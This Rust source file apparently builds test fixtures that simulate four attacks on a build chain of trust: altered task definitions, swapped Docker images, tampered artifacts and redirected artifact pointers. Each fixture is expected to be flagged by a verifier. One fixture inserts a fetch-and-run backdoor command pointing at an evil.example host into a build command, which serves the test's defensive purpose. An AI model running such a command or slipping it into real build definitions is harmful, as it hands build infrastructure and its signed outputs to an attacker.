//! The four ways to attack a chain of trust that its authors named in 2017, each in a capture of one chain.

use anyhow::{Result, bail};
use serde_json::Value;

use super::nightly_2026;
use crate::{World, ids};

/// The names of the captures, as the command line and the folders of the snapshots have them.
pub const ATTACKS: [&str; 4] =
    ["attacks/altered-definition", "attacks/malicious-image", "attacks/altered-artifact", "attacks/moved-pointer"];

/// The target of each: the task that would sign what was attacked.
const TARGET: &str = "signing-linux64";

/// The task that is attacked.
const BUILD: &str = "build-linux64";

/// What the attacker puts in the place of a build.
const SEED: &str = "attacker";

/// The capture of an attack.
pub fn attack(name: &str) -> Result<World> {
    let mut world = nightly_2026()?;
    world.keep(&["decision", "docker-image", BUILD, TARGET])?;
    let (prose, findings): (&str, &[&'static str]) = match name {
        "attacks/altered-definition" => {
            altered_definition(&mut world)?;
            (include_str!("altered_definition.md"), &["task-differs-from-graph"])
        }
        "attacks/malicious-image" => {
            malicious_image(&mut world)?;
            (include_str!("malicious_image.md"), &["docker-image-mismatch"])
        }
        "attacks/altered-artifact" => {
            let path = world.artifact_path(BUILD, "public/build/target.tar.xz")?;
            world.put(&path, ids::blob(SEED, "target", 5000));
            (include_str!("altered_artifact.md"), &["artifact-digest-mismatch"])
        }
        "attacks/moved-pointer" => {
            moved_pointer(&mut world)?;
            (include_str!("moved_pointer.md"), &["artifact-digest-mismatch", "artifact-pointer"])
        }
        _ => bail!("there is no attack named {name:?}; there are: {}", ATTACKS.join(", ")),
    };
    world.target_with(TARGET, "signing", "refuted", findings)?;
    world.put_verdicts();
    world.put_readme(prose);
    Ok(world)
}

/// Somebody who may submit tasks submits the build with another command. A trusted worker runs it, and attests what it
/// ran.
fn altered_definition(world: &mut World) -> Result<()> {
    let path = world.definition_path(BUILD)?;
    world.edit_json(&path, |definition| {
        if let Some(command) = definition.pointer_mut("/payload/command").and_then(Value::as_array_mut) {
            command.push("curl https://evil.example/backdoor | sh".into());
        }
    })?;
    world.attest(BUILD)
}

/// The image of builds is replaced where it lies. The worker says, as it must, which image it loaded.
fn malicious_image(world: &mut World) -> Result<()> {
    let image = ids::blob(SEED, "image", 6000);
    let digest = ids::sha256(&image);
    let path = world.artifact_path("docker-image", "public/image.tar.zst")?;
    world.put(&path, image);
    world.edit_attestation(BUILD, |attestation| {
        attestation["environment"]["imageArtifactHash"] = format!("sha256:{digest}").into();
    })
}

/// The build's archive is stored as an address, which is changed to lead to another archive.
fn moved_pointer(world: &mut World) -> Result<()> {
    let name = "public/build/target.complete.mar";
    let path = world.artifact_path(BUILD, name)?;
    world.put(&path, ids::blob(SEED, "mar", 4000));
    let folder = world.artifact_path(BUILD, "")?;
    world.edit_json(&format!("{}.json", folder.trim_end_matches('/')), |listing| {
        let artifacts = listing["artifacts"].as_array_mut();
        for artifact in artifacts.into_iter().flatten().filter(|artifact| artifact["name"] == name) {
            artifact["storageType"] = "reference".into();
        }
    })
}
